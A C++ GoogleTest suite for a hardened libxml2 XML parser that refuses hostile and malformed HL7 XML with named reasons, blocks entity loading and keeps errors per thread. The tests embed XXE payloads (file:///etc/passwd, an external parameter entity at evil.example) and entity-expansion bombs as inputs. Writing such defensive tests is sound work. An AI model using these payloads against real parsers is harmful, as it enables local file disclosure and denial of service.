// HardenedXml: hostile and malformed inputs are refused with a reason that names the problem, partner
// messages parse, nothing is loaded from files or the network, errors stay per call and per thread.
#include <gtest/gtest.h>
#include <libxml/parser.h>
#include <libxml/parserInternals.h>
#include <libxml/xmlerror.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "TestSupport.hpp"
#include <gw/kit/HardenedXml.hpp>
#include <gw/kit/LibXml2Handles.hpp>

namespace {

using gw::kit::HardenedXml;
using gw::kit::XmlLimits;
using gw::kit::XmlRejectionKind;

const std::string kMaliciousDir = std::string(GW_TEST_DATA_DIR) + "/malicious/";
const std::string kHl7XmlDir = std::string(GW_TEST_DATA_DIR) + "/hl7v2-xml/";

std::string fixture(const std::string& dir, const std::string& name) { return gwtest::readFile(dir + name); }

std::vector<std::string> filesIn(const std::string& dir) {
  std::vector<std::string> names;
  for (const auto& entry : std::filesystem::directory_iterator(dir)) names.push_back(entry.path().filename().string());
  std::sort(names.begin(), names.end());
  return names;
}

std::string localName(const xmlNode* node) { return reinterpret_cast<const char*>(node->name); }

// What each malicious corpus file must be refused for, and words its reason must contain.
struct ExpectedRefusal {
  gw::kit::XmlRejectionKind kind;
  std::vector<std::string> words;
};

const std::map<std::string, ExpectedRefusal>& refusedCorpus() {
  static const std::map<std::string, ExpectedRefusal> corpus = {
      {"defusedxml_cyclic.xml", {gw::kit::XmlRejectionKind::entityDeclaration, {"entity declaration 'a'", "line 2"}}},
      {"defusedxml_xmlbomb.xml", {gw::kit::XmlRejectionKind::entityDeclaration, {"entity declaration 'a'", "line 2"}}},
      {"defusedxml_external.xml",
       {gw::kit::XmlRejectionKind::externalEntity, {"external entity 'ee'", "http://www.w3schools.com/xml/note.xml"}}},
      {"defusedxml_external_file.xml",
       {gw::kit::XmlRejectionKind::externalEntity, {"external entity 'ee'", "file:///PATH/TO/xmltestdata/simple.xml"}}},
      {"hapi_adt_a01_xxe_etc_passwd.xml",
       {gw::kit::XmlRejectionKind::externalEntity, {"external entity 'xxe'", "file:///etc/passwd", "line 2"}}},
      // Its <!ELEMENT data (#ANY)> is itself malformed, so libxml2 stops before the ENTITY line.
      {"patt_classic_xxe_etc_passwd.xml",
       {gw::kit::XmlRejectionKind::dtdInternalSubset, {"DOCTYPE with an internal subset is not allowed (line 2)", "line 3"}}},
      {"generated_deep_nesting_1050.xml",
       {gw::kit::XmlRejectionKind::tooDeep, {"document nesting deeper than 256 levels", "<leaf>"}}},
      {"generated_huge_attribute_150k.xml",
       {gw::kit::XmlRejectionKind::attributeTooLarge, {"attribute 'pad' of <MSH.10>", "150000 bytes", "65536"}}},
      {"nhapi_fuzz_er7_empty.bin", {gw::kit::XmlRejectionKind::empty, {"empty"}}},
      {"nhapi_fuzz_er7_hang1.bin", {gw::kit::XmlRejectionKind::notXml, {"not an XML document", "\"MSH|^|"}}},
      {"nhapi_fuzz_er7_so5.bin", {gw::kit::XmlRejectionKind::notXml, {"not an XML document", "\"MSH|0~00|"}}},
  };
  return corpus;
}

// A DOCTYPE that only names an external DTD is tolerated (and never loaded), as for partner messages
// such as hapi_qbp_q22_external_dtd.xml; defusedxml itself accepts this file by default.
const std::set<std::string> kAcceptedCorpus = {"defusedxml_dtd.xml"};

// Positive controls; hapi_rsp_k22 sits among them but is truncated upstream.
const std::set<std::string> kTruncatedHl7 = {"hapi_rsp_k22_bad_encoding_chars.xml"};

// Refused as `kind`, with each of `words` in the reason.
testing::AssertionResult refused(std::string_view bytes, gw::kit::XmlRejectionKind kind, const std::vector<std::string>& words,
                                 const gw::kit::XmlLimits& limits = gw::kit::XmlLimits{}) {
  const auto result = gw::kit::HardenedXml::parse(bytes, limits);
  if (result.ok()) return testing::AssertionFailure() << "accepted";
  const gw::kit::XmlRejection& rejection = result.rejection();
  if (rejection.kind != kind) {
    return testing::AssertionFailure() << "refused as " << gw::kit::xmlRejectionKindName(rejection.kind) << ", not "
                                       << gw::kit::xmlRejectionKindName(kind) << ": " << rejection.reason;
  }
  for (const std::string& word : words) {
    if (rejection.reason.find(word) == std::string::npos) {
      return testing::AssertionFailure() << "'" << word << "' not in: " << rejection.reason;
    }
  }
  return testing::AssertionSuccess();
}

long residentBytes() {
  std::ifstream statm("/proc/self/statm");
  long pages = 0, resident = 0;
  statm >> pages >> resident;
  return resident * sysconf(_SC_PAGESIZE);
}

// Sends libxml2 errors raised on this thread nowhere, for tests that call libxml2 directly.
class SilenceThisThread {
 public:
  SilenceThisThread() { xmlSetStructuredErrorFunc(nullptr, [](void*, xmlErrorPtr) {}); }
  ~SilenceThisThread() { xmlSetStructuredErrorFunc(nullptr, nullptr); }
};

TEST(HardenedXml, EveryMaliciousCorpusFileIsClassified) {
  for (const std::string& name : filesIn(kMaliciousDir)) {
    EXPECT_TRUE(refusedCorpus().count(name) + kAcceptedCorpus.count(name) == 1) << name << " has no expectation";
  }
}

TEST(HardenedXml, MaliciousCorpusIsRefusedWithAReasonNamingTheProblem) {
  for (const auto& [name, expected] : refusedCorpus()) {
    const std::string bytes = fixture(kMaliciousDir, name);
    const auto start = std::chrono::steady_clock::now();
    const auto result = gw::kit::HardenedXml::parse(bytes);
    const double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
    ASSERT_FALSE(result.ok()) << name;
    const auto& rejection = result.rejection();
    std::printf("  %-36s %8.3f ms  %-20s %s\n", name.c_str(), ms, gw::kit::xmlRejectionKindName(rejection.kind),
                rejection.reason.c_str());
    EXPECT_EQ(rejection.kind, expected.kind) << name << ": " << rejection.reason;
    for (const std::string& word : expected.words) {
      EXPECT_NE(rejection.reason.find(word), std::string::npos)
          << name << ": '" << word << "' not in: " << rejection.reason;
    }
  }
}

TEST(HardenedXml, ExternalDtdIsNamedButNeverLoaded) {
  for (const auto& [dir, name] : {std::pair{kMaliciousDir, "defusedxml_dtd.xml"},
                                  std::pair{kHl7XmlDir, "hapi_qbp_q22_external_dtd.xml"}}) {
    auto result = gw::kit::HardenedXml::parse(fixture(dir, name));
    ASSERT_TRUE(result.ok()) << name << ": " << result.rejection().reason;
    const xmlDoc* doc = result.document().get();
    ASSERT_NE(doc->intSubset, nullptr) << name;
    EXPECT_NE(doc->intSubset->SystemID, nullptr) << name;
    EXPECT_EQ(doc->intSubset->children, nullptr) << name << ": DTD declarations were read";
    EXPECT_EQ(doc->extSubset, nullptr) << name << ": external DTD was loaded";
  }
}

TEST(HardenedXml, Hl7V2XmlSamplesParse) {
  for (const std::string& name : filesIn(kHl7XmlDir)) {
    if (kTruncatedHl7.count(name) != 0) continue;
    const auto start = std::chrono::steady_clock::now();
    auto result = gw::kit::HardenedXml::parse(fixture(kHl7XmlDir, name));
    const double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
    ASSERT_TRUE(result.ok()) << name << ": " << result.rejection().reason;
    std::printf("  %-40s %8.3f ms  <%s>\n", name.c_str(), ms, localName(result.document().root()).c_str());
  }
}

TEST(HardenedXml, NamespacePrefixedMessageKeepsItsNamespace) {
  auto result = gw::kit::HardenedXml::parse(fixture(kHl7XmlDir, "hapi_oru_r01_v22_ns_prefix.xml"));
  ASSERT_TRUE(result.ok()) << result.rejection().reason;
  const xmlNode* root = result.document().root();
  EXPECT_EQ(localName(root), "ORU_R01");
  EXPECT_EQ(xmlGetLineNo(root), 2) << "adapters name lines in their own errors";
  ASSERT_NE(root->ns, nullptr);
  EXPECT_STREQ(reinterpret_cast<const char*>(root->ns->prefix), "ns0");
  EXPECT_STREQ(reinterpret_cast<const char*>(root->ns->href), "urn:hl7-org:v2xml");
}

TEST(HardenedXml, PredefinedEntitiesAndCharacterReferencesAreDecoded) {
  auto result = gw::kit::HardenedXml::parse("<a x=\"&lt;&#65;\">R&amp;H &#x4E2D;</a>");
  ASSERT_TRUE(result.ok()) << result.rejection().reason;
  const xmlNode* root = result.document().root();
  gw::kit::XmlStringHandle content(xmlNodeGetContent(root));
  gw::kit::XmlStringHandle attribute(xmlGetProp(root, BAD_CAST "x"));
  EXPECT_STREQ(reinterpret_cast<const char*>(content.get()), "R&H \xE4\xB8\xAD");
  EXPECT_STREQ(reinterpret_cast<const char*>(attribute.get()), "<A");
}

TEST(HardenedXml, TruncatedMessageIsRefusedWithLibxml2sMessageAndPosition) {
  const auto result = gw::kit::HardenedXml::parse(fixture(kHl7XmlDir, "hapi_rsp_k22_bad_encoding_chars.xml"));
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.rejection().kind, gw::kit::XmlRejectionKind::malformed);
  EXPECT_NE(result.rejection().reason.find("malformed XML at line 46"), std::string::npos) << result.rejection().reason;
  EXPECT_NE(result.rejection().reason.find("Premature end of data in tag CE.2"), std::string::npos)
      << result.rejection().reason;
  EXPECT_EQ(result.rejection().line, 46);
}

TEST(HardenedXml, SizeCapIsCheckedBeforeParsing) {
  gw::kit::XmlLimits limits;
  limits.maxBytes = 16;
  // Malformed as well as too large: the size wins because nothing is parsed.
  EXPECT_TRUE(refused("<a><b></a>" + std::string(20, ' '), gw::kit::XmlRejectionKind::tooLarge,
                      {"document is 30 bytes, over the limit of 16 bytes"}, limits));
  EXPECT_TRUE(gw::kit::HardenedXml::parse("<a/>", limits).ok());
}

TEST(HardenedXml, DefaultSizeCapIsFourMebibytes) {
  EXPECT_EQ(gw::kit::XmlLimits{}.maxBytes, 4u * 1024 * 1024);
  EXPECT_TRUE(refused("<a>" + std::string(4 * 1024 * 1024, 'x') + "</a>", gw::kit::XmlRejectionKind::tooLarge, {}));
}

TEST(HardenedXml, BlankInputIsEmpty) {
  EXPECT_TRUE(refused(" \r\n\t", gw::kit::XmlRejectionKind::empty, {"document is empty"}));
}

TEST(HardenedXml, InvalidUtf8IsRefusedWithLineAndColumn) {
  const auto result =
      gw::kit::HardenedXml::parse("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a>\n  <b>ok \xC3\x28 bad</b>\n</a>\n");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.rejection().kind, gw::kit::XmlRejectionKind::invalidEncoding);
  EXPECT_NE(result.rejection().reason.find("invalid UTF-8 at line 3 column 9"), std::string::npos)
      << result.rejection().reason;
  EXPECT_EQ(result.rejection().line, 3);
  EXPECT_EQ(result.rejection().column, 9);
}

TEST(HardenedXml, UnsupportedEncodingIsRefused) {
  EXPECT_TRUE(refused("<?xml version=\"1.0\" encoding=\"X-NO-SUCH\"?>\n<a/>", gw::kit::XmlRejectionKind::invalidEncoding,
                      {"X-NO-SUCH"}));
}

// libxml2 raises these without the parser context, through the thread's handler.
TEST(HardenedXml, BytesInvalidInTheDeclaredEncodingAreRefused) {
  EXPECT_TRUE(refused("<?xml version=\"1.0\" encoding=\"GB18030\"?>\n<a>ok\n\x81\x30\xFF\xFF</a>",
                      gw::kit::XmlRejectionKind::invalidEncoding,
                      {"invalid or unsupported encoding 'GB18030' (input conversion failed"}));
}

TEST(HardenedXml, DeclaredLatin1IsConvertedToUtf8) {
  auto result = gw::kit::HardenedXml::parse("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<a>caf\xE9</a>");
  ASSERT_TRUE(result.ok()) << result.rejection().reason;
  gw::kit::XmlStringHandle content(xmlNodeGetContent(result.document().root()));
  EXPECT_STREQ(reinterpret_cast<const char*>(content.get()), "caf\xC3\xA9");
}

TEST(HardenedXml, MalformedXmlCarriesLibxml2sMessageAndPosition) {
  EXPECT_TRUE(refused("<a>\n  <b></c>\n</a>", gw::kit::XmlRejectionKind::malformed,
                      {"malformed XML at line 2 column", "Opening and ending tag mismatch: b line 2 and c"}));
}

TEST(HardenedXml, InternalSubsetWithoutEntitiesIsRefused) {
  EXPECT_TRUE(refused("<!DOCTYPE a [\n<!ELEMENT a ANY>\n<!ATTLIST a x CDATA \"dflt\">\n]>\n<a/>",
                      gw::kit::XmlRejectionKind::dtdInternalSubset,
                      {"DOCTYPE with an internal subset is not allowed (line 1)"}));
}

TEST(HardenedXml, ParameterAndUnparsedEntitiesAreRefused) {
  EXPECT_TRUE(refused("<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><a/>",
                      gw::kit::XmlRejectionKind::externalEntity, {"external entity '%p'", "http://evil.example/x.dtd"}));
  EXPECT_TRUE(refused("<!DOCTYPE a [<!ENTITY % q \"<!ENTITY x 'y'>\"> %q;]><a/>", gw::kit::XmlRejectionKind::entityDeclaration,
                      {"parameter entity declaration '%q'"}));
  EXPECT_TRUE(refused("<!DOCTYPE a [<!ENTITY e SYSTEM \"x.png\" NDATA png>]><a/>", gw::kit::XmlRejectionKind::externalEntity,
                      {"external entity 'e' (SYSTEM \"x.png\")"}));
}

TEST(HardenedXml, QuadraticBlowupStopsAtTheDeclaration) {
  const std::string value(100000, 'x');
  const std::string bomb = "<!DOCTYPE a [<!ENTITY big \"" + value + "\">]><a>" + [] {
    std::string refs;
    for (int i = 0; i < 10000; ++i) refs += "&big;";
    return refs;
  }() + "</a>";
  EXPECT_TRUE(refused(bomb, gw::kit::XmlRejectionKind::entityDeclaration, {"entity declaration 'big'"}));
}

TEST(HardenedXml, UndeclaredEntityReferencesAreRefused) {
  const std::vector<std::string> documents = {
      "<a>\n<b>&foo;</b></a>",                                              // no DTD: libxml2's own error
      "<!DOCTYPE a SYSTEM \"http://x.example/y.dtd\">\n<a>\n<b>&foo;</b></a>",  // would need the DTD
      "<!DOCTYPE a SYSTEM \"http://x.example/y.dtd\">\n<a v=\"x&foo;y\"/>",     // in an attribute
  };
  for (const std::string& document : documents) {
    EXPECT_TRUE(refused(document, gw::kit::XmlRejectionKind::entityReference, {"undeclared entity '&foo;'"})) << document;
  }
}

std::string nested(int depth) {
  std::string open, close;
  for (int i = 0; i < depth; ++i) {
    open += "<e>";
    close += "</e>";
  }
  return open + close;
}

TEST(HardenedXml, NestingIsLimitedTo256LevelsByDefault) {
  EXPECT_TRUE(gw::kit::HardenedXml::parse(nested(256)).ok());
  EXPECT_TRUE(
      refused(nested(257), gw::kit::XmlRejectionKind::tooDeep, {"document nesting deeper than 256 levels (element <e>"}));

  gw::kit::XmlLimits shallow;
  shallow.maxDepth = 3;
  EXPECT_TRUE(gw::kit::HardenedXml::parse(nested(3), shallow).ok());
  EXPECT_EQ(gw::kit::HardenedXml::parse(nested(4), shallow).rejection().kind, gw::kit::XmlRejectionKind::tooDeep);
}

TEST(HardenedXml, Libxml2sOwnDepthLimitStillHoldsAboveOurs) {
  gw::kit::XmlLimits deep;
  deep.maxDepth = 5000;
  EXPECT_TRUE(gw::kit::HardenedXml::parse(nested(257), deep).ok());
  EXPECT_TRUE(refused(nested(258), gw::kit::XmlRejectionKind::tooDeep, {"deeper than 256 levels (libxml2's own limit"}, deep));
  EXPECT_TRUE(refused(fixture(kMaliciousDir, "generated_deep_nesting_1050.xml"), gw::kit::XmlRejectionKind::tooDeep,
                      {"libxml2's own limit"}, deep));
}

TEST(HardenedXml, AttributeLimitIsWhatRefusesTheHugeAttribute) {
  gw::kit::XmlLimits generous;
  generous.maxAttributeBytes = 200000;
  EXPECT_TRUE(gw::kit::HardenedXml::parse(fixture(kMaliciousDir, "generated_huge_attribute_150k.xml"), generous).ok());
}

TEST(HardenedXml, DenyAllLoaderRefusesFilesEvenWhenAParserAsksForThem) {
  gwtest::TempDir dir;
  const std::string dtd = dir.file("defaults.dtd");
  gwtest::writeFile(dtd, "<!ATTLIST a injected CDATA \"from-dtd\">\n");
  ASSERT_TRUE(gw::kit::HardenedXml::parse("<a/>").ok());  // installs the loader
  SilenceThisThread silence;

  // Control: libxml2's own (no-network) loader would open the file.
  gw::kit::XmlParserCtxtHandle ctxt(xmlNewParserCtxt());
  xmlParserInputPtr opened = xmlNoNetExternalEntityLoader(dtd.c_str(), nullptr, ctxt.get());
  ASSERT_NE(opened, nullptr);
  xmlFreeInputStream(opened);

  EXPECT_EQ(xmlGetExternalEntityLoader()(dtd.c_str(), nullptr, ctxt.get()), nullptr);
  const std::string document = "<!DOCTYPE a SYSTEM \"file://" + dtd + "\"><a/>";
  gw::kit::XmlDocHandle doc(xmlReadMemory(document.data(), static_cast<int>(document.size()), nullptr, nullptr,
                                     XML_PARSE_DTDLOAD | XML_PARSE_DTDATTR | XML_PARSE_NOENT));
  ASSERT_NE(doc, nullptr);
  EXPECT_FALSE(xmlHasProp(xmlDocGetRootElement(doc.get()), BAD_CAST "injected"));
}

TEST(HardenedXml, ErrorsAreNeverPrintedAndThreadHandlersAreRestored) {
  int calls = 0;
  xmlSetStructuredErrorFunc(&calls, [](void* counter, xmlErrorPtr) { ++*static_cast<int*>(counter); });
  testing::internal::CaptureStderr();
  for (const std::string& name : filesIn(kMaliciousDir)) (void)gw::kit::HardenedXml::parse(fixture(kMaliciousDir, name));
  (void)gw::kit::HardenedXml::parse("<a>\xC3\x28</a>");
  (void)gw::kit::HardenedXml::parse("<?xml version=\"1.0\" encoding=\"X-NO-SUCH\"?><a/>");
  (void)gw::kit::HardenedXml::parse("<?xml version=\"1.0\" encoding=\"GB18030\"?><a>\x81\x30\xFF\xFF</a>");
  const std::string printed = testing::internal::GetCapturedStderr();
  EXPECT_EQ(printed, "");
  EXPECT_EQ(calls, 0) << "the thread's own handler saw the parser's errors";
  EXPECT_EQ(xmlStructuredErrorContext, &calls) << "the thread's handler was not restored";
  xmlSetStructuredErrorFunc(nullptr, nullptr);
}

TEST(HardenedXml, Libxml2KeepsErrorHandlersPerThread) {
  EXPECT_TRUE(xmlHasFeature(XML_WITH_THREAD));
}

TEST(HardenedXml, ThreadsGetTheirOwnErrors) {
  struct Case {
    std::string name;
    std::string bytes;
    bool ok;
    std::string word;  // in the reason (refusals) or the root's name (documents)
  };
  std::vector<Case> cases;
  for (const auto& [name, expected] : refusedCorpus()) {
    cases.push_back({name, fixture(kMaliciousDir, name), false, expected.words.front()});
  }
  for (const std::string& name : filesIn(kHl7XmlDir)) {
    if (kTruncatedHl7.count(name) != 0) continue;
    auto result = gw::kit::HardenedXml::parse(fixture(kHl7XmlDir, name));
    ASSERT_TRUE(result.ok());
    cases.push_back({name, fixture(kHl7XmlDir, name), true, localName(result.document().root())});
  }
  cases.push_back({"bad-utf8", "<a>\n<b>\xC3\x28</b></a>", false, "invalid UTF-8 at line 2 column 4"});
  cases.push_back({"truncated", "<a>\n<b>", false, "Premature end of data in tag b line 2"});

  std::atomic<int> failures{0};
  std::vector<std::string> firstFailure(8);
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&, t] {
      for (int round = 0; round < 50; ++round) {
        for (std::size_t i = 0; i < cases.size(); ++i) {
          const Case& c = cases[(i + static_cast<std::size_t>(t) * 3) % cases.size()];
          auto result = gw::kit::HardenedXml::parse(c.bytes);
          const bool right = result.ok() == c.ok &&
                             (c.ok ? localName(result.document().root()) == c.word
                                   : result.rejection().reason.find(c.word) != std::string::npos);
          if (!right && failures++ == 0) {
            firstFailure[static_cast<std::size_t>(t)] =
                c.name + ": " + (result.ok() ? "accepted" : result.rejection().reason);
          }
        }
      }
    });
  }
  for (auto& thread : threads) thread.join();
  std::string failure;
  for (const auto& f : firstFailure) failure += f;
  EXPECT_EQ(failures.load(), 0) << failure;
}

TEST(HardenedXml, RepeatedCorpusParsingDoesNotGrowMemory) {
#if defined(__SANITIZE_ADDRESS__)
  // AddressSanitizer keeps freed memory in quarantine, so RSS grows by design; it checks leaks itself.
  GTEST_SKIP() << "RSS growth is not meaningful under AddressSanitizer (its leak checker covers this build)";
#endif
  std::vector<std::string> corpus;
  for (const std::string& name : filesIn(kMaliciousDir)) corpus.push_back(fixture(kMaliciousDir, name));
  for (const std::string& name : filesIn(kHl7XmlDir)) corpus.push_back(fixture(kHl7XmlDir, name));  // documents too
  const auto parseAll = [&] {
    for (const std::string& bytes : corpus) (void)gw::kit::HardenedXml::parse(bytes);
  };
  for (int i = 0; i < 50; ++i) parseAll();  // warm-up: allocator pools, libxml2 globals, dictionaries
  const long before = residentBytes();
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < 1000; ++i) parseAll();
  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  const long after = residentBytes();
  std::printf("  1000 x %zu files in %.2f s; RSS %ld KiB -> %ld KiB (%+ld KiB)\n", corpus.size(), seconds,
              before / 1024, after / 1024, (after - before) / 1024);
  EXPECT_LT(after - before, 2L * 1024 * 1024);
}

}  // namespace
